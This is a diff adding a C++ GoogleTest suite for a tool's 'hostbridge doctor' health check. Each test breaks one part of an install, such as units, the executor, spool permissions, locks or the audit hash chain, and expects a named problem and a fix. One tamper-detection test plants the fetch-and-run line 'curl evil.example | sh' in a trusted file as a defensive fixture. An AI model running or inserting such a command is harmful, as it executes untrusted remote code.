@@ -1,0 +1,227 @@
+// `hostbridge doctor`: a healthy install, then each check of cli.md broken
+// on its own: doctor must name exactly that thing and print the bare fix.
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/file.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <gtest/gtest.h>
+
+#include <thread>
+
+#include "tests/cli/cli_harness.hpp"
+
+namespace hb::test {
+namespace {
+
+class Doctor : public ::testing::Test {
+  protected:
+    void SetUp() override {
+        Ran run = home.hostbridge(install_args(project, {"--no-systemd"}));
+        ASSERT_EQ(run.code, 0) << run.out << run.err;
+    }
+
+    Ran doctor() const { return home.hostbridge({"doctor", "--slug", "demo-app"}); }
+
+    // The line that re-runs this install, as doctor prints it.
+    std::string reinstall_prefix() const {
+        return std::string(HB_BIN_DIR) + "/hostbridge install ";
+    }
+
+    // Doctor found a problem mentioning `what`, and printed `fix` bare.
+    void expect_problem(const std::string& what, const std::string& fix) const {
+        Ran run = doctor();
+        EXPECT_EQ(run.code, 1) << run.out;
+        bool named = false;
+        for (const auto& line : lines_of(run.out)) {
+            if (line.rfind("PROBLEM: ", 0) == 0 && contains(line, what)) named = true;
+        }
+        EXPECT_TRUE(named) << "no PROBLEM line naming '" << what << "' in:\n" << run.out;
+        bool fixed = false;
+        for (const auto& line : lines_of(run.out)) {
+            if (line.rfind(fix, 0) == 0) fixed = true;
+        }
+        EXPECT_TRUE(fixed) << "no bare fix line starting with '" << fix << "' in:\n" << run.out;
+        EXPECT_TRUE(contains(run.out, "problem(s) found"));
+    }
+
+    TempRoot root;
+    Home home{root.path()};
+    Project project{root.path(), "demo-app"};
+};
+
+TEST_F(Doctor, AFreshNoSystemdInstallIsHealthy) {
+    Ran run = doctor();
+    EXPECT_EQ(run.code, 0) << run.out;
+    EXPECT_TRUE(has_line(run.out, "healthy"));
+    EXPECT_TRUE(contains(run.out, "info:    installed with --no-systemd")) << run.out;
+    // Found from the project's directory without --slug, too.
+    Ran here = home.hostbridge({"doctor"}, project.dir + "/untracked");
+    EXPECT_EQ(here.code, 0) << here.out << here.err;
+}
+
+TEST_F(Doctor, NamesAMissingUnit) {
+    ASSERT_EQ(::unlink((home.unit_dir() + "/hostbridge-demo-app.path").c_str()), 0);
+    expect_problem("hostbridge-demo-app.path is missing", reinstall_prefix());
+}
+
+TEST_F(Doctor, NamesAUnitThatDiffersFromWhatInstallWrites) {
+    const std::string unit = home.unit_dir() + "/hostbridge-demo-app.service";
+    write_file(unit, read_file(unit) + "ExecStartPre=/bin/true\n");
+    expect_problem("hostbridge-demo-app.service differs", reinstall_prefix());
+}
+
+TEST_F(Doctor, NamesAnExecutorThatIsNotTheInstalledOne) {
+    const std::string exe = home.lib_dir("demo-app") + "/hostbridge-executor";
+    write_file(exe, read_file(exe) + "tampered", 0755);
+    expect_problem("hostbridge-executor (" + exe + ") is not the binary that was installed",
+                   reinstall_prefix());
+}
+
+TEST_F(Doctor, NamesAMissingParser) {
+    ASSERT_EQ(::unlink((home.lib_dir("demo-app") + "/hostbridge-parser").c_str()), 0);
+    expect_problem("hostbridge-parser", reinstall_prefix());
+}
+
+TEST_F(Doctor, NamesASpoolDirReplacedByASymlink) {
+    const std::string requests = project.spool() + "/requests";
+    ASSERT_EQ(::rmdir(requests.c_str()), 0);
+    write_file(root.path() + "/decoy/keep", "");
+    ASSERT_EQ(::symlink((root.path() + "/decoy").c_str(), requests.c_str()), 0);
+    expect_problem(requests + " is a symlink", "rm -- " + requests);
+}
+
+TEST_F(Doctor, NamesASpoolDirWithAnInsaneMode) {
+    const std::string tmp = project.spool() + "/tmp";
+    ASSERT_EQ(::chmod(tmp.c_str(), 0777), 0);
+    expect_problem(tmp + " has mode 0777, expected 0755", "chmod 0755 " + tmp);
+}
+
+TEST_F(Doctor, NamesAChangedTrustedFileWithItsDiff) {
+    write_file(project.stack, read_file(project.stack) + "curl evil.example | sh\n", 0755);
+    Ran run = doctor();
+    EXPECT_TRUE(has_line(run.out, "+curl evil.example | sh")) << run.out;
+    EXPECT_TRUE(has_line(run.out, "--- approved/stack")) << run.out;
+    expect_problem("trusted file stack",
+                   std::string(HB_BIN_DIR) + "/hostbridge approve --slug demo-app");
+}
+
+TEST_F(Doctor, NamesATrustedFileCreatedWherePinnedAbsent) {
+    write_file(project.dir + "/.env", "COMPOSE_FILE=evil.yaml\n");
+    expect_problem("trusted file .env",
+                   std::string(HB_BIN_DIR) + "/hostbridge approve --slug demo-app");
+}
+
+TEST_F(Doctor, NamesPolicyWarnings) {
+    const std::string policy = home.config_dir("demo-app") + "/policy.conf";
+    write_file(policy, read_file(policy) + "MODE_deploy=auto\n");
+    expect_problem("unknown", "\"${EDITOR:-vi}\" " + policy);
+    write_file(policy, "MODE_ping=auto\nMODE_up=sometimes\n");
+    expect_problem("MODE_up", "\"${EDITOR:-vi}\" " + policy);
+}
+
+TEST_F(Doctor, NamesAMissingPolicyFile) {
+    ASSERT_EQ(::unlink((home.config_dir("demo-app") + "/policy.conf").c_str()), 0);
+    expect_problem("policy file", reinstall_prefix());
+}
+
+TEST_F(Doctor, NamesAStaleLockHeldByALeakedDescriptor) {
+    // A long-lived child that inherited the drain lock, as a container
+    // started without closing descriptors would.
+    const std::string lock = home.state_dir("demo-app") + "/drain.lock";
+    int fd = ::open(lock.c_str(), O_RDWR | O_CREAT, 0600);
+    ASSERT_GE(fd, 0);
+    ASSERT_EQ(::flock(fd, LOCK_EX), 0);
+    pid_t child = ::fork();
+    ASSERT_GE(child, 0);
+    if (child == 0) {
+        ::execl("/bin/sleep", "sleep", "60", static_cast<char*>(nullptr));
+        ::_exit(127);
+    }
+    ::close(fd);  // only the child holds it now
+    // Wait until the child is sleep (its exe is the one doctor names).
+    for (int i = 0; i < 200; ++i) {
+        char buf[256];
+        ssize_t n =
+            ::readlink(("/proc/" + std::to_string(child) + "/exe").c_str(), buf, sizeof buf);
+        if (n > 0 && std::string(buf, static_cast<std::size_t>(n)).ends_with("sleep")) break;
+        std::this_thread::sleep_for(std::chrono::milliseconds(10));
+    }
+    expect_problem("held by pid " + std::to_string(child), "kill " + std::to_string(child));
+    ::kill(child, SIGKILL);
+    ::waitpid(child, nullptr, 0);
+    EXPECT_EQ(doctor().code, 0);
+}
+
+TEST_F(Doctor, NamesABrokenAuditChain) {
+    // A second event, then an edit of the first one.
+    ASSERT_EQ(home.hostbridge(install_args(project, {"--no-systemd"})).code, 0);
+    const std::string log = home.state_dir("demo-app") + "/audit.jsonl";
+    std::string text = read_file(log);
+    auto pos = text.find("services");
+    ASSERT_NE(pos, std::string::npos);
+    text.replace(pos, 8, "SERVICES");
+    write_file(log, text, 0600);
+    expect_problem("hash chain is broken at audit.jsonl line 1",
+                   std::string(HB_BIN_DIR) + "/hostbridge audit --slug demo-app --verify");
+}
+
+TEST_F(Doctor, NamesAGrowingQuarantine) {
+    write_file(project.spool() + "/quarantine/garbage.json", "{{{");
+    expect_problem("quarantine/ is growing", "ls -la -- " + project.spool() + "/quarantine");
+}
+
+TEST_F(Doctor, NamesARequestTheDrainCouldNotMove) {
+    write_file(project.spool() + "/requests/.stuck-20260101T000000Z-up-0000000000000000.json/x",
+               "");
+    expect_problem("could not be moved", "rm -rf -- " + project.spool() + "/requests/.stuck-");
+}
+
+TEST_F(Doctor, NamesASpoolGitNoLongerIgnores) {
+    write_file(project.dir + "/.git/info/exclude", "");
+    expect_problem("git does not ignore the spool", reinstall_prefix());
+}
+
+TEST_F(Doctor, NamesAMissingAgentClient) {
+    ASSERT_EQ(::unlink((project.spool() + "/request").c_str()), 0);
+    expect_problem("agent client", reinstall_prefix());
+}
+
+TEST_F(Doctor, NamesAnUnreadableConfig) {
+    write_file(home.config_dir("demo-app") + "/bridge.json", "{\"version\": 1}");
+    expect_problem("cannot read " + home.config_dir("demo-app") + "/bridge.json",
+                   reinstall_prefix());
+}
+
+TEST_F(Doctor, WantsEnabledUnitsForASystemdInstall) {
+    // Installed for systemd, but no user manager is reachable here.
+    ASSERT_EQ(home.hostbridge(install_args(project)).code, 0);
+    expect_problem("no systemd user manager is reachable",
+                   "systemctl --user enable --now hostbridge-demo-app.path");
+}
+
+TEST_F(Doctor, TheReinstallFixReallyFixes) {
+    ASSERT_EQ(::unlink((home.unit_dir() + "/hostbridge-demo-app.path").c_str()), 0);
+    ASSERT_EQ(::chmod((project.spool() + "/archive").c_str(), 0700), 0);
+    Ran broken = doctor();
+    ASSERT_EQ(broken.code, 1);
+    std::string fix;
+    for (const auto& line : lines_of(broken.out)) {
+        if (line.rfind(reinstall_prefix(), 0) == 0) fix = line;
+    }
+    ASSERT_FALSE(fix.empty()) << broken.out;
+    // Paste it into a shell, as a person would.
+    std::vector<std::string> env = home.env();
+    std::string command;
+    for (const auto& e : env)
+        command += e.substr(0, e.find('=') + 1) + "'" + e.substr(e.find('=') + 1) + "' ";
+    int rc = std::system(("cd / && env " + command + fix + " >/dev/null 2>&1").c_str());
+    ASSERT_EQ(WEXITSTATUS(rc), 0) << fix;
+    Ran healed = doctor();
+    EXPECT_EQ(healed.code, 0) << healed.out;
+}
+
+}  // namespace
+}  // namespace hb::test
